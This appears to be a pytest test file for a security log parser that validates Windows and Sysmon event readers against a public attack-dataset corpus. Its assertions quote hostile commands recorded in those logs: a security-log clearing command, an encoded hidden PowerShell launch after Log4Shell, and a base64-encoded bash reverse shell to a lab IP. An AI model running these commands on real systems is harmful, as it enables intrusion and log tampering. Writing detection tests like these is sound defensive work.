"""The Windows readers on the real public corpus: zero errors, and the key fields the corpus index expects."""

from __future__ import annotations

import csv
import random
from collections import defaultdict
from pathlib import Path

import pytest

from shellwatch.events import Event
from tests.conftest import read_events

pytestmark = pytest.mark.corpus
csv.field_size_limit(2**31 - 1)


def _escape(text: str) -> str:
    """How ``_key_events.tsv`` writes text: backslash, tab, CR and LF escaped."""
    return text.replace("\\", "\\\\").replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n")


# EventData items that the mapping copies unchanged to an ECS field (and so keeps only there).
_COPIED_TO = {
    "CommandLine": "process.command_line",
    "Payload": "powershell.command.value",
    "Status": "winlog.logon.failure.status",
    "SubStatus": "winlog.logon.failure.sub_status",
}


def _data(event: Event, name: str) -> str:
    value = event.get(f"winlog.event_data.{name}")
    if value is None and name in _COPIED_TO:
        value = event.get(_COPIED_TO[name])
    return "" if value is None else str(value)


def _params(event: Event) -> str:
    numbers = [int(key.rsplit("param", 1)[1]) for key in event if key.startswith("winlog.event_data.param")]
    return " | ".join(_data(event, f"param{number}") for number in range(1, max(numbers, default=0) + 1))


def _logon(event: Event) -> str:
    def value(name: str) -> str:
        return _data(event, name) or "None"

    target = f"{_data(event, 'TargetDomainName')}\\{_data(event, 'TargetUserName')}"
    return (
        f"LogonType={value('LogonType')} Target={target} Ip={_data(event, 'IpAddress')} "
        f"Proc={_data(event, 'ProcessName')} Status={value('Status')}/{value('SubStatus')}"
    )


def _expected_columns(event: Event) -> tuple[str, str, str, str]:
    """(parent image, image, user, command or script) as the TSV derives them from the raw EventData."""
    code = event["event.code"]
    if code == "1":
        return (
            _data(event, "ParentImage"),
            _data(event, "Image"),
            _data(event, "User"),
            _data(event, "CommandLine"),
        )
    if code == "4688":
        names = ("ParentProcessName", "NewProcessName", "SubjectUserName", "CommandLine")
        parent, image, user, command = (_data(event, name) for name in names)
        return parent, image, user, command
    if code in ("4624", "4625", "4648"):
        return "", "", _data(event, "SubjectUserName"), _logon(event)
    if code == "4103":
        return "", "", "", f"{_data(event, 'Payload')} || {_data(event, 'ContextInfo')}"
    if code == "4104":
        return "", "", "", str(event.get("powershell.file.script_block_text", ""))
    return "", "", "", _params(event)


def _by_record(events: list[Event]) -> dict[int, Event]:
    found: dict[int, Event] = {}
    for event in events:
        for record in event.get("shellwatch.powershell.record_ids") or [event["winlog.record_id"]]:  # type: ignore[union-attr]
            found[int(record)] = event
    return found


def test_every_staged_evtx_parses_without_errors(corpus: Path) -> None:
    files = sorted((corpus / "evtx").rglob("*.evtx"))
    assert len(files) > 200
    failures = {}
    for path in files:
        _events, issues, report = read_events(path)
        assert report.format == "evtx"
        if issues or report.records == 0:
            failures[path.name] = [issue.reason for issue in issues][:3]
    assert failures == {}


def test_evtx_bench_sample_parses_without_errors(corpus: Path) -> None:
    files = sorted((corpus / "evtx-bench").rglob("*.evtx"))
    sample = random.Random(1059).sample(files, min(50, len(files)))
    for path in sample:
        events, issues, report = read_events(path)
        assert issues == [], path
        assert report.errors == 0 and report.records >= len(events)


def test_key_events_match_the_corpus_index(corpus: Path) -> None:
    index = corpus / "evtx" / "_key_events.tsv"
    with index.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle, delimiter="\t", quoting=csv.QUOTE_NONE))
    header, rows = rows[0], rows[1:]
    assert header[:3] == ["file", "record_id", "provider"]
    by_file: dict[str, list[list[str]]] = defaultdict(list)
    for row in rows:
        by_file[row[0]].append(row)
    mismatches = []
    for name, file_rows in by_file.items():
        events, issues, _ = read_events(corpus / "evtx" / name)
        assert issues == []
        found = _by_record(events)
        for row in file_rows:
            event = found.get(int(row[1]))
            assert event is not None, f"{name}: record {row[1]} missing"
            assert event["event.code"] == row[3] and event["event.provider"] == row[2]
            if event["winlog.record_id"] == int(row[1]):  # a joined 4104 keeps its first part's time
                assert event["@timestamp"] == row[4][:26] + "Z"
            assert event.get("host.name") == row[5]
            parent, image, user, command = (_escape(text) for text in _expected_columns(event))
            if (parent, image, user) != (row[6], row[7], row[8]):
                mismatches.append((name, row[1], "parent/image/user"))
            elif row[3] == "4104" and row[9] not in _escape(str(event["powershell.file.script_block_text"])):
                mismatches.append((name, row[1], "script block"))
            elif row[3] != "4104" and not command.startswith(row[9]):
                mismatches.append((name, row[1], "command"))
    assert mismatches == []
    assert len(rows) > 6000


def test_key_process_events_are_mapped_to_ecs(corpus: Path) -> None:
    events, _, _ = read_events(corpus / "evtx" / "deepbluecli" / "metasploit-sysmon.evtx")
    wevtutil = [e for e in events if e.get("process.name") == "wevtutil.exe" and e["event.code"] == "1"]
    assert wevtutil
    first = wevtutil[0]
    assert (
        first["process.parent.executable"] == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    )
    assert first["process.command_line"] == '"C:\\WINDOWS\\system32\\wevtutil.exe" cl security'
    assert first["user.name"] == "fgaeta" and first["user.domain"] == "VALKYRIE"
    assert first["process.entity_id"] == "0FD50764-28F3-6440-E008-000000001800"
    assert first["winlog.record_id"] == first["log.offset"] == 30451


def test_windows_json_exports_parse_without_errors(corpus: Path) -> None:
    zips = sorted((corpus / "windows-json" / "otrf").glob("*.zip"))
    assert len(zips) == 7
    for path in zips:
        events, issues, report = read_events(path)
        assert report.format == "windows_json", path
        assert issues == [] and report.errors == 0, path
        assert len(events) == report.records or events, path


def test_log4shell_tomcat_spawns_encoded_powershell(corpus: Path) -> None:
    otrf = corpus / "windows-json" / "otrf"
    for name, code in (
        ("sysmon_log4shell_cve2021_44228_java_serialized_object.zip", "1"),
        ("securityauditing_log4shell_cve2021_44228_java_serialized_object.zip", "4688"),
    ):
        events, _, _ = read_events(otrf / name)
        spawned = [
            e for e in events if e["event.code"] == code and e.get("process.parent.name") == "tomcat9.exe"
        ]
        assert len(spawned) == 1, name
        child = spawned[0]
        assert child["process.name"] == "powershell.exe"
        assert str(child["process.command_line"]).startswith(
            "powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBU"
        )
        assert child["process.executable"] == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def test_sysmon_linux_log4shell_reverse_shell(corpus: Path) -> None:
    path = next((corpus / "sysmon-linux" / "otrf-log4shell").glob("*.json"))
    events, issues, report = read_events(path)
    assert report.format == "sysmon_linux"
    assert issues == [] and report.records == 93 and len(events) == 93
    assert {e["host.os.type"] for e in events} == {"linux"}
    shells = [e for e in events if e["event.code"] == "1" and e.get("process.parent.name") == "java"]
    assert len(shells) == 1
    shell = shells[0]
    assert shell["process.executable"] == "/bin/bash"
    assert shell["process.command_line"] == (
        "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
    )
    assert shell["process.parent.executable"] == "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java"
    assert shell["user.name"] == "tomcat"
    assert shell["shellwatch.truncated"] is True
    whoami = [e for e in events if e["event.code"] == "1" and e.get("process.name") == "whoami"]
    assert whoami and whoami[0]["process.parent.executable"] == "/bin/bash"
